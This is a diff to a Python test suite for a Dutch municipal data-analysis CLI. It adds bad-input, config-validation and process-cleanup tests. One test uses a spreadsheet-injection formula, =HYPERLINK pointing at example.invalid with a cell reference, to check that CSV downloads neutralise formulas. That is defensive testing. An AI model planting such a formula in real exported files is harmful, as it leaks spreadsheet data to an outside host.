@@ -169,6 +169,53 @@ def _truncate(rel_to_root: str, keep: int = 200):
 
 
 SNAP_WIJK = "snapshot/kwb_2016_wijk/wijk_2016_zwijndrecht.csv"
+WALBURG_2016 = "WK064201,Wijk 01 Walburg,GM0642,Zwijndrecht,1,NEE,2656,1,9470,4330,5140,14,"
+
+
+def _replace(rel: str, old: str, new: str):
+    """Replace every ``old`` in the raw file ``rel`` (which must hold it)."""
+
+    def f(p: Paths):
+        path = p.raw / rel
+        text = path.read_text(encoding="utf-8")
+        assert old in text, f"{old!r} not in {rel}"
+        path.write_text(text.replace(old, new), encoding="utf-8")
+
+    return f
+
+
+def _long_focus_name(p: Paths) -> None:
+    """FG03 renamed to a 2,099-character name (every row of it, so the one-name check passes)."""
+    import csv
+    import io
+
+    path = p.raw / "local" / "focusgebieden.csv"
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    for r in rows[1:]:
+        if r and r[0] == "FG03":
+            r[1] = ("Dichtersbuurt " * 150)[:2099]
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8")
+
+
+def _cached_inwoners(value):
+    """A CBS cache folder (written by the real client) whose inhabitants figure is ``value``."""
+
+    def f(p: Paths):
+        from analysis.sources.cbs import write_cache
+        from tests.conftest import kwb_meta
+
+        rows = [{"WijkenEnBuurten": "BU06420305", "AantalInwoners_5": value}]
+        write_cache(
+            p.cbs_cache,
+            "85984NED",
+            {**kwb_meta(), "TypedDataSet": rows},
+            {"registry_key": "kwb", "year": 2024},
+        )
+
+    return f
+
 
 CASES = [
     # focusgebieden.csv
@@ -233,49 +280,45 @@ CASES = [
         "lbm_no_rows_for_municipality",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;lbm\nBU05050101;2022;4,1\n"),
-        ["leefbaarometer3_buurt.csv", "no rows for municipality GM0642"],
+        ["leefbaarometer3_buurt.csv", "geen rijen voor gemeente GM0642"],
     ),
     (
         "lbm_conflicting_duplicate",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;lbm\nBU06420101;2022;4,1\nBU06420101;2022;3,9\n"),
-        ["leefbaarometer3_buurt.csv", "twice with different values"],
+        ["leefbaarometer3_buurt.csv", "regel 3", "twee keer"],
     ),
     (
         "lbm_truncated_last_line",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;lbm;fys\nBU06420101;2022;4,1;0,1\nBU06420102;2022\n"),
-        ["leefbaarometer3_buurt.csv", "line 3"],
+        ["leefbaarometer3_buurt.csv", "regel 3"],
     ),
     (
         "lbm_empty_code",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;lbm\n;2022;4,1\n"),
-        ["leefbaarometer3_buurt.csv", "'bu_code' is empty"],
+        ["leefbaarometer3_buurt.csv", "regel 2", "'bu_code' is leeg"],
     ),
     (
         "lbm_non_numeric",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;lbm\nBU06420101;2022;abc\n"),
-        ["leefbaarometer3_buurt.csv", "'lbm' has non-numeric"],
+        ["leefbaarometer3_buurt.csv", "regel 2", "'lbm'", "'abc'"],
     ),
-    (
-        "lbm_unknown_buurt",
-        ["build", "--no-cache"],
-        _lbm("bu_code;jaar;lbm\nBU06429999;2022;4,1\n"),
-        ["unknown region code"],
-    ),
+    # an unknown buurt code in a Leefbaarometer file is counted, not refused (issue 21 item 6: the
+    # 2024 classification against our 2023 buurten): tests/test_partner.py
     (
         "lbm_missing_column",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;score\nBU06420101;2022;4,1\n"),
-        ["leefbaarometer3_buurt.csv", "'lbm' missing"],
+        ["leefbaarometer3_buurt.csv", "'lbm' ontbreekt"],
     ),
     (
         "lbm_year_out_of_range",
         ["build", "--no-cache"],
         _lbm("bu_code;jaar;lbm\nBU06420101;1899;4,1\n"),
-        ["leefbaarometer3_buurt.csv", "jaar"],
+        ["leefbaarometer3_buurt.csv", "regel 2", "jaar", "1899"],
     ),
     (
         "lbm_malformed_code",
@@ -289,7 +332,7 @@ CASES = [
         _lbm("code|year|score\nBU1|2022|4\n"),
         ["leefbaarometer3_buurt.csv"],
     ),
-    ("lbm_empty_file", ["build", "--no-cache"], _lbm(""), ["leefbaarometer3_buurt.csv", "empty"]),
+    ("lbm_empty_file", ["build", "--no-cache"], _lbm(""), ["leefbaarometer3_buurt.csv", "leeg bestand"]),
     # snapshot files
     (
         "snapshot_wijk_missing_column",
@@ -438,6 +481,124 @@ CASES = [
         ),
         ["indicators.yaml", "inwoners"],
     ),
+    # unknown keys: every configuration file refuses them (issue 27)
+    (
+        "indicators_unknown_key",
+        ["build", "--no-cache"],
+        _cfg(
+            "indicators.yaml",
+            "{label: Inwoners, unit: aantal, kind: count}",
+            "{label: Inwoners, unit: aantal, kind: count, gewicht: x}",
+        ),
+        ["indicators.yaml", "inwoners.gewicht", "onbekende sleutel"],
+    ),
+    (
+        "indicators_range_reversed",
+        ["goals"],
+        _cfg("indicators.yaml", "range: [0, 10]", "range: [10, 0]"),
+        ["indicators.yaml", "lbm_score", "range"],
+    ),
+    (
+        "settings_unknown_top_key",
+        ["build", "--no-cache"],
+        _cfg("settings.yaml", "min_inwoners: 200", "min_inwoners: 200\nmin_inwonres: 100"),
+        ["settings.yaml", "min_inwonres", "onbekende sleutel"],
+    ),
+    (
+        "settings_unknown_pdok_key",
+        ["resilience"],
+        _cfg("settings.yaml", "  page_size: 1000", "  pagesize: 1000"),
+        ["settings.yaml", "pdok.pagesize", "onbekende sleutel"],
+    ),
+    (
+        "settings_unknown_cbs_key",
+        ["build", "--no-cache"],
+        _cfg("settings.yaml", "  budget_s: 900", "  budget: 900"),
+        ["settings.yaml", "cbs.budget", "onbekende sleutel"],
+    ),
+    (
+        "settings_unknown_gemeente_key",
+        ["goals"],
+        _cfg("settings.yaml", "  code: GM0642", "  code: GM0642\n  kode: GM0505"),
+        ["settings.yaml", "gemeente.kode"],
+    ),
+    (
+        "cbs_tables_unknown_key",
+        ["build"],
+        _cfg("cbs_tables.yaml", "  required: [inwoners]", "  requierd: [inwoners]"),
+        ["cbs_tables.yaml", "kwb.requierd", "onbekende sleutel"],
+    ),
+    # the programme's focus areas (issue 27)
+    (
+        "focus_buurt_of_other_municipality",
+        ["build", "--no-cache"],
+        _replace(
+            "local/focusgebieden.csv", "FG08,Schildersbuurt,BU06420303", "FG08,Schildersbuurt,BU05050303"
+        ),
+        ["focusgebieden.csv", "BU05050303", "FG08", "GM0642"],
+    ),
+    (
+        "focus_name_2099_characters",
+        ["build", "--no-cache"],
+        _long_focus_name,
+        ["focusgebieden.csv", "focusgebied_naam", "2099 tekens"],
+    ),
+    # plausible values, the same for every source (issue 27)
+    (
+        "snapshot_inwoners_negative",
+        ["build", "--no-cache"],
+        _replace(SNAP_WIJK, WALBURG_2016, WALBURG_2016.replace(",9470,", ",-5,")),
+        ["snapshot", "'inwoners'", "WK064201", "2016", "waarde -5 "],
+    ),
+    (
+        "snapshot_inwoners_1e12",
+        ["build", "--no-cache"],
+        _replace(SNAP_WIJK, WALBURG_2016, WALBURG_2016.replace(",9470,", ",1000000000000,")),
+        ["snapshot", "'inwoners'", "WK064201", "1e+12"],
+    ),
+    (
+        "snapshot_percentage_150",
+        ["build", "--no-cache"],
+        _replace(SNAP_WIJK, WALBURG_2016, WALBURG_2016.replace(",5140,14,", ",5140,150,")),
+        ["snapshot", "'pct_0_15'", "WK064201", "waarde 150 ", "0 tot 100"],
+    ),
+    (
+        "lbm_score_negative",
+        ["build", "--no-cache"],
+        _lbm("bu_code;jaar;lbm\nBU06420101;2022;-5\n"),
+        ["local", "Leefbaarometer", "'lbm_score'", "BU06420101", "waarde -5 "],
+    ),
+    (
+        "lbm_score_1e12",
+        ["build", "--no-cache"],
+        _lbm("bu_code;jaar;lbm\nBU06420101;2022;1000000000000\n"),
+        ["local", "'lbm_score'", "1e+12"],
+    ),
+    (
+        "lbm_score_inf",
+        ["build", "--no-cache"],
+        _lbm("bu_code;jaar;lbm\nBU06420101;2022;inf\n"),
+        ["'lbm_score'", "inf"],
+    ),
+    (
+        "lbm_score_999999",
+        ["build", "--no-cache"],
+        _lbm("bu_code;jaar;lbm;fys\nBU06420101;2022;4,1;999999\n"),
+        ["'lbm_fysiek'", "999999"],
+    ),
+    (
+        "partner_rate_above_1000",
+        ["build", "--no-cache"],
+        _w("local/overlast_2023.csv", "buurtcode;jaar;meldingen_per_1000\nBU06420101;2023;5000\n"),
+        ["overlast_2023.csv", "'overlast_per_1000'", "BU06420101", "waarde 5000 ", "0 tot 1000"],
+    ),
+    (
+        "cbs_cache_inwoners_negative",
+        ["build"],
+        _cached_inwoners(-5),
+        ["85984NED", "'inwoners'", "BU06420305", "-5"],
+    ),
+    ("cbs_cache_inwoners_1e12", ["build"], _cached_inwoners(1e12), ["85984NED", "'inwoners'", "1e+12"]),
     # corrupt intermediates
     (
         "indicators_parquet_truncated_resilience",
@@ -480,6 +641,27 @@ CASES = [
         ["unknown area code", "regions.gpkg"],
     ),
     ("cli_only_area_without_sheet", ["factsheets", "--only", "BU06420103"], None, ["no fact sheet"]),
+    # every CLI number checked like its settings twin (issue 27); --only keeps a missed check cheap
+    *(
+        (
+            f"cli_timeout_{name}",
+            ["factsheets", "--only", "FG03", "--timeout", value],
+            None,
+            [f"--timeout {value}", "factsheets.timeout_s"],
+        )
+        for name, value in (("zero", "0"), ("negative", "-5"), ("nan", "nan"), ("inf", "inf"))
+    ),
+    ("cli_n_sim_negative", ["resilience", "--n-sim", "-1"], None, ["--n-sim -1", "sensitivity.n_sim"]),
+    ("cli_n_sim_zero", ["resilience", "--n-sim", "0"], None, ["--n-sim 0", "minstens 10"]),
+    ("cli_budget_zero", ["fetch", "--budget", "0"], None, ["--budget 0", "cbs.budget_s"]),
+    ("cli_budget_nan", ["fetch", "--budget", "nan"], None, ["--budget nan", "cbs.budget_s"]),
+    ("cli_budget_inf", ["fetch", "--budget", "inf"], None, ["--budget inf", "eindig"]),
+    (
+        "cli_workers_not_a_number",
+        ["factsheets", "--workers", "twee"],
+        None,
+        ["--workers", "geen geheel getal"],
+    ),
 ]
 
 
@@ -565,3 +747,117 @@ def test_bad_input_as_a_real_process(case, name):
     err = [ln for ln in proc.stderr.splitlines() if ln.strip()]
     assert_one_fout(proc.returncode, err, *needles)
     assert tree_hash(case) == before
+
+
+def _csv_links(html: str) -> dict[str, str]:
+    import re
+    import urllib.parse
+
+    found = re.findall(r'download="([^"]+\.csv)" href="data:text/csv;charset=utf-8,([^"]+)"', html)
+    return {name: urllib.parse.unquote(data) for name, data in found}
+
+
+def test_csv_downloads_neutralise_formulas_and_round_as_shown(case, capsys):
+    """A focus-area name that is a spreadsheet formula stays text in the sheet's CSV downloads, and
+    the downloads write whole years and numbers rounded as the page shows them (issue 27, issue 23
+    item 6), through `veerkracht factsheets`."""
+    import csv
+    import io
+    import re
+
+    import geopandas as gpd
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
+    regions = gpd.read_file(case.regions, layer="regions")
+    regions.loc[regions["region_code"] == "FG03", "name"] = formula
+    regions.to_file(case.regions, layer="regions", driver="GPKG")
+    rc, err = run_cli(["factsheets", "--only", "FG03", "--force", "--workers", "1"], capsys)
+    assert rc == 0, err
+    pages = [
+        p for p in (case.outputs / "factsheets").glob("*.html") if "kerncijfers-fg03.csv" in p.read_text()
+    ]
+    assert len(pages) == 1
+    links = _csv_links(pages[0].read_text(encoding="utf-8"))
+    assert {"kerncijfers-fg03.csv", "doelen-fg03.csv"} <= set(links)
+    for name, text in links.items():
+        rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+        assert rows, name
+        for r in rows:
+            for col, cell in r.items():
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, col, cell)
+                if cell.startswith("-"):  # only a negative number may start with a minus
+                    assert re.fullmatch(r"-\d+(,\d+)?", cell), (name, col, cell)
+                if col.endswith("jaar") and not col.endswith("per_jaar") and cell:
+                    assert re.fullmatch(r"\d{4}", cell), (name, col, cell)  # 2040, never 2040,0
+                assert not re.fullmatch(r"-?\d+\.\d+", cell), (name, col, cell)  # decimal comma
+                assert not re.fullmatch(r"-?\d+,\d{3,}", cell), (name, col, cell)  # rounded as shown
+    kern = list(csv.DictReader(io.StringIO(links["kerncijfers-fg03.csv"].lstrip("\ufeff")), delimiter=";"))
+    names = {r["gebied"] for r in kern}
+    assert "'" + formula in names  # the name is kept as text, with the quote Excel hides
+
+
+def test_killing_a_report_leaves_no_process_of_it(case):
+    """`kill -9` of `veerkracht report --force` while resilience and goals run: every process the
+    run started dies with it (the goals side process too) and nothing is written afterwards."""
+    import signal
+    import time
+
+    from tests.conftest import descendants
+
+    env = {
+        **os.environ,
+        "PYTHONUNBUFFERED": "1",
+        "VEERKRACHT_RAW": str(case.raw),
+        "VEERKRACHT_PROCESSED": str(case.processed),
+        "VEERKRACHT_OUTPUTS": str(case.outputs),
+    }
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "analysis.cli", "report", "--force", "--workers", "1"],
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
+    started: set[int] = set()
+    try:
+        for line in proc.stdout:  # the build is done: goals starts beside resilience
+            if "[build:" in line:
+                break
+        end = time.monotonic() + 3  # goals runs for many seconds: collect every process meanwhile
+        while time.monotonic() < end:
+            started |= descendants(proc.pid)
+            time.sleep(0.1)
+        # forks of the run (same command line): the prestarted sheet worker and the goals side process
+        forks = [p for p in started if _cmdline(p) == proc.args]
+        assert len(forks) >= 2, f"expected the sheet worker and the goals side process, got {forks}"
+        killed_at = time.time()
+        os.kill(proc.pid, signal.SIGKILL)
+        proc.wait()
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline and any(_alive(p) for p in started):
+            time.sleep(0.5)
+        alive = sorted(p for p in started if _alive(p))
+        assert not alive, f"processes of the killed run still alive: {alive}"
+        late = [p for p in case.outputs.rglob("*") if p.is_file() and p.stat().st_mtime > killed_at + 1]
+        assert not late, f"written after the run was killed: {late[:5]}"
+    finally:
+        for p in started:
+            if _alive(p):
+                os.kill(p, signal.SIGKILL)
+        if proc.poll() is None:
+            proc.kill()
+
+
+def _cmdline(pid: int) -> list[str]:
+    try:
+        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")[:-1]
+    except OSError:
+        return []
+
+
+def _alive(pid: int) -> bool:
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except (OSError, IndexError):
+        return False
+    return state != "Z"
